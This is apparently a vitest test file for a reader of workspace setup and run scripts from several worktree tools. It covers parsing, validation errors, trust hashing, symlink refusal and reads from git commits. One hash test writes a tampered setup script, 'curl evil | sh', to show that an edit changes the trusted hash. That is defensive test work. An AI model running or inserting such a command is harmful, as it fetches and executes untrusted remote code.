import { cpSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { commitAll, createRepo } from '../../testing/git-fixtures';
import { tempFolder } from '../testing/temp-folders';
import { expectOk } from '../testing/services-fixture';
import { readWorkspaceConfig, readWorkspaceConfigAt, type InvalidConfigDetails } from './workspace-config';

/** The fixture repositories (one folder per case, files as a repository holds them), read in place. */
const fixture = (name: string) => join(import.meta.dirname, 'fixtures', name);

/** Reads a fixture expected to be refused, returning its message and details. */
function refused(name: string) {
  const read = readWorkspaceConfig(fixture(name));
  if (read.ok) throw new Error(`${name} was accepted`);
  expect(read.error.code).toBe('WORKSPACE_CONFIG_INVALID');
  return { message: read.error.message, details: read.error.details as InvalidConfigDetails };
}

describe('readWorkspaceConfig: the formats Braid reads', () => {
  it('reads Braid’s own .braid/workspace.json: scripts as lists, include, ports, run mode, and the merge queue’s test command', () => {
    const config = expectOk(readWorkspaceConfig(fixture('braid')));
    expect(config.source).toEqual({ kind: 'braid', files: ['.braid/workspace.json'] });
    expect(config.scripts).toEqual({
      setup: ['npm ci', 'cp "$BRAID_ROOT_PATH/.env" .env'],
      run: ['npm run dev -- --port $BRAID_PORT'],
      archive: ['docker compose down'],
      test: ['npm run lint', 'npm test'],
    });
    expect(config.include).toEqual({ from: '.braid/workspace.json', patterns: ['.env', '.env.local', 'node_modules/'] });
    expect(config.ports).toEqual({ VITE_PORT: 1, API_PORT: 2 });
    expect(config.runMode).toBe('nonconcurrent');
  });

  it('layers Conductor’s settings.local.toml over settings.toml, entry by entry, and takes file_include_globs', () => {
    const config = expectOk(readWorkspaceConfig(fixture('conductor-toml')));
    expect(config.source).toEqual({ kind: 'conductor-toml', files: ['.conductor/settings.toml', '.conductor/settings.local.toml'] });
    expect(config.scripts).toEqual({ setup: ['bin/setup --skip-seed'], run: ['bin/dev'], archive: ['bin/teardown'], test: [] });
    expect(config.runMode).toBe('nonconcurrent');
    expect(config.include).toEqual({ from: '.conductor/settings.local.toml', patterns: ['.env*', 'config/local.json'] });
  });

  it('reads Conductor’s conductor.json with its runScriptMode', () => {
    const config = expectOk(readWorkspaceConfig(fixture('conductor-json')));
    expect(config.source).toEqual({ kind: 'conductor-json', files: ['conductor.json'] });
    expect(config.scripts.setup).toEqual(['pnpm install && cp $CONDUCTOR_ROOT_PATH/.env .env']);
    expect(config.scripts.run).toEqual(['pnpm dev --port $CONDUCTOR_PORT']);
    expect(config.scripts.archive).toEqual(['rm -rf .cache']);
    expect(config.runMode).toBe('nonconcurrent');
  });

  it('reads Superset’s .superset/config.json, its teardown being the archive script', () => {
    const config = expectOk(readWorkspaceConfig(fixture('superset')));
    expect(config.source?.kind).toBe('superset');
    expect(config.scripts).toEqual({ setup: ['bun install', 'cp "$SUPERSET_ROOT_PATH/.env" .env'], run: ['bun dev'], archive: ['docker compose down'], test: [] });
  });

  it('reads Cursor’s .cursor/worktrees.json, the platform’s own setup winning over the generic one', () => {
    const config = expectOk(readWorkspaceConfig(fixture('cursor')));
    expect(config.source?.kind).toBe('cursor');
    expect(config.scripts.setup).toEqual(process.platform === 'win32' ? ['npm ci', 'copy %ROOT_WORKTREE_PATH%\\.env .env'] : ['npm ci', 'cp $ROOT_WORKTREE_PATH/.env .env']);
    expect(config.scripts.run).toEqual([]);
  });

  it('reads Emdash’s .emdash.json, preservePatterns being the files to bring over', () => {
    const config = expectOk(readWorkspaceConfig(fixture('emdash')));
    expect(config.source?.kind).toBe('emdash');
    expect(config.scripts).toEqual({ setup: ['pnpm install'], run: ['PORT=$EMDASH_PORT pnpm dev'], archive: ['docker compose down'], test: [] });
    expect(config.include).toEqual({ from: '.emdash.json', patterns: ['.env', '.envrc'] });
  });

  it('takes Braid’s own config over another tool’s when both are there', () => {
    const config = expectOk(readWorkspaceConfig(fixture('several')));
    expect(config.source?.kind).toBe('braid');
    expect(config.scripts.setup).toEqual(['from braid']);
  });

  it('lets .worktreeinclude win over the config’s own list, without its comments and blank lines', () => {
    const config = expectOk(readWorkspaceConfig(fixture('worktreeinclude')));
    expect(config.include).toEqual({ from: '.worktreeinclude', patterns: ['.env', '!.env.example', 'config/*.local.json'] });
    expect(config.scripts.setup).toEqual(['make setup']);
  });

  it('says there is nothing when the repository has no config, and trusts nothing (no hash)', () => {
    const config = expectOk(readWorkspaceConfig(tempFolder()));
    expect(config).toMatchObject({ source: null, contentHash: null, include: { from: null, patterns: [] }, scripts: { setup: [], run: [], archive: [], test: [] } });
  });

  it('hashes exactly the files read: any edit changes the hash the user trusted', () => {
    const root = tempFolder();
    cpSync(fixture('conductor-toml'), root, { recursive: true });
    const before = expectOk(readWorkspaceConfig(root)).contentHash;
    expect(before).toMatch(/^[0-9a-f]{64}$/);
    expect(expectOk(readWorkspaceConfig(root)).contentHash).toBe(before);
    writeFileSync(join(root, '.conductor/settings.local.toml'), '[scripts]\nsetup = "curl evil | sh"\n');
    expect(expectOk(readWorkspaceConfig(root)).contentHash).not.toBe(before);
  });
});

describe('readWorkspaceConfig: malformed files are refused, naming the file and the entry', () => {
  it('invalid JSON names the file, the line and the column', () => {
    const { message, details } = refused('bad-braid-json');
    expect(message).toMatch(/^\.braid\/workspace\.json: is not valid JSON \(.*line 4 column 1\)/);
    expect(details.source).toEqual({ kind: 'braid', files: ['.braid/workspace.json'] });
    expect(details.contentHash).toMatch(/^[0-9a-f]{64}$/);
  });

  it('a typo in Braid’s own keys and values of the wrong type, every one of them', () => {
    const { message, details } = refused('bad-braid-keys');
    expect(details.problems).toEqual([
      '.braid/workspace.json: "setpu" is not a known entry (known: $schema, setup, run, archive, test, include, ports, runMode)',
      '.braid/workspace.json: "run" must be a command line or a list of command lines, not number 42',
      '.braid/workspace.json: "archive"[1] must be a command line (a string), not boolean false',
    ]);
    expect(message).toBe(details.problems.join('\n'));
  });

  it('ports outside the block of 10, or named not as a variable', () => {
    expect(refused('bad-braid-ports').details.problems).toEqual([
      ".braid/workspace.json: ports.WEB must be an offset into the workspace's 10 ports (0–9)",
      '.braid/workspace.json: ports.bad-name is not a valid environment variable name',
      ".braid/workspace.json: ports.API must be an offset into the workspace's 10 ports (0–9)",
    ]);
  });

  it('invalid TOML names the file and where', () => {
    expect(refused('bad-conductor-toml').message).toMatch(/^\.conductor\/settings\.toml: is not valid TOML \(.+, line \d+ column \d+\)$/);
  });

  it('conductor.json with scripts that are not a table and an unknown run mode', () => {
    expect(refused('bad-conductor-json').details.problems).toEqual([
      'conductor.json: "scripts" must be an object, not the text "npm ci"',
      'conductor.json: "runScriptMode" must be "concurrent" or "nonconcurrent", not the text "sometimes"',
    ]);
  });

  it('Superset, Cursor and Emdash files of the wrong shape', () => {
    expect(refused('bad-superset').details.problems).toEqual([
      '.superset/config.json: "setup" must be a command line or a list of command lines, not an object',
      '.superset/config.json: "teardown"[0] must be a command line (a string), not number 1',
    ]);
    expect(refused('bad-cursor').message).toBe('.cursor/worktrees.json: must hold a JSON object, not a list');
    expect(refused('bad-emdash').details.problems).toEqual([
      '.emdash.json: scripts.setup[1] must be a command line (a string), not number 3',
      '.emdash.json: "preservePatterns" must be a list of strings, not the text ".env"',
    ]);
  });

  it('a config that is a symbolic link is refused, never followed', () => {
    const root = tempFolder();
    const outside = join(tempFolder(), 'elsewhere.json');
    writeFileSync(outside, '{ "scripts": { "setup": "echo from outside" } }');
    symlinkSync(outside, join(root, 'conductor.json'));
    const read = readWorkspaceConfig(root);
    expect(read.ok ? 'accepted' : read.error).toEqual({
      code: 'WORKSPACE_CONFIG_INVALID',
      message: 'conductor.json: is a symbolic link; Braid reads workspace configs only from plain files in the repository.',
    });
  });
});

describe('readWorkspaceConfigAt: the config as committed (what the merge queue reads on its target)', () => {
  /** A repository whose first commit holds `files`, then whatever `change` does. */
  const repoWith = (files: Record<string, string> = {}) => createRepo({ path: join(tempFolder(), 'repo'), files: { 'README.md': '# r\n', ...files } });

  it('reads every format, and refuses every malformed file, exactly as from a checkout: same scripts, same problems, same hash', async () => {
    const names = readdirSync(join(import.meta.dirname, 'fixtures'));
    expect(names.length).toBeGreaterThan(10);
    for (const name of names) {
      const repo = repoWith();
      cpSync(fixture(name), repo.path, { recursive: true });
      const commit = commitAll(repo.path, name);
      const fromCommit = await readWorkspaceConfigAt(repo.path, commit);
      expect({ name, read: fromCommit }).toEqual({ name, read: readWorkspaceConfig(fixture(name)) });
    }
  });

  it('reads the commit, never the checkout: an edit not committed, or committed later, does not change what an older commit says', async () => {
    const repo = repoWith({ '.braid/workspace.json': '{ "test": "npm test" }\n' });
    const first = repo.head();
    writeFileSync(join(repo.path, '.braid/workspace.json'), '{ "test": "true" }\n');
    expect(expectOk(await readWorkspaceConfigAt(repo.path, first)).scripts.test).toEqual(['npm test']);
    const second = repo.commit({ '.braid/workspace.json': '{ "test": "npm run check", "setup": "npm ci" }\n' }, 'Change the gate');
    expect(expectOk(await readWorkspaceConfigAt(repo.path, first)).scripts).toMatchObject({ test: ['npm test'], setup: [] });
    expect(expectOk(await readWorkspaceConfigAt(repo.path, second)).scripts).toMatchObject({ test: ['npm run check'], setup: ['npm ci'] });
  });

  it('a committed config that is a symbolic link is refused in the same words; one below a committed folder link is no config at all', async () => {
    const repo = repoWith();
    symlinkSync('elsewhere.json', join(repo.path, 'conductor.json'));
    writeFileSync(join(repo.path, 'elsewhere.json'), '{ "scripts": { "setup": "echo linked" } }');
    mkdirSync(join(repo.path, 'real-braid'));
    writeFileSync(join(repo.path, 'real-braid/workspace.json'), '{ "setup": "echo through a link" }');
    symlinkSync('real-braid', join(repo.path, '.braid'));
    const commit = commitAll(repo.path, 'links');
    // Braid's own config is looked for first: refusing conductor.json shows the one below the link was not read.
    const read = await readWorkspaceConfigAt(repo.path, commit);
    expect(read.ok ? 'accepted' : read.error).toEqual({
      code: 'WORKSPACE_CONFIG_INVALID',
      message: 'conductor.json: is a symbolic link; Braid reads workspace configs only from plain files in the repository.',
    });
  });

  it('Conductor’s settings.local.toml, which users keep out of the repository, comes from the checkout when the commit has none; a committed one wins', async () => {
    const local = '.conductor/settings.local.toml';
    const repo = repoWith({ '.gitignore': `${local}\n`, '.conductor/settings.toml': '[scripts]\nsetup = "bin/setup"\nrun = "bin/dev"\n' });
    writeFileSync(join(repo.path, local), '[scripts]\nsetup = "bin/setup --skip-seed"\n');
    const fromCheckout = expectOk(readWorkspaceConfig(repo.path));
    expect(fromCheckout.scripts.setup).toEqual(['bin/setup --skip-seed']);
    // The same config and hash as the checkout's: trusting it there trusts it here.
    expect(await readWorkspaceConfigAt(repo.path, repo.head(), { localFilesFrom: repo.path })).toEqual({ ok: true, data: fromCheckout });
    expect(expectOk(await readWorkspaceConfigAt(repo.path, repo.head())).scripts.setup).toEqual(['bin/setup']);

    repo.git('add', '--force', local);
    repo.git('commit', '--quiet', '-m', 'Commit the local layer');
    writeFileSync(join(repo.path, local), '[scripts]\nsetup = "echo edited in the checkout"\n');
    expect(expectOk(await readWorkspaceConfigAt(repo.path, repo.head(), { localFilesFrom: repo.path })).scripts.setup).toEqual(['bin/setup --skip-seed']);
  });

  it('a commit without a config has none; a commit that does not exist says git could not read it', async () => {
    const repo = repoWith();
    expect(expectOk(await readWorkspaceConfigAt(repo.path, repo.head()))).toMatchObject({ source: null, contentHash: null, scripts: { setup: [], test: [] } });
    const missing = await readWorkspaceConfigAt(repo.path, '0123456789abcdef0123456789abcdef01234567');
    expect(missing.ok ? 'read' : missing.error.code).toBe('GIT_FAILED');
  });
});
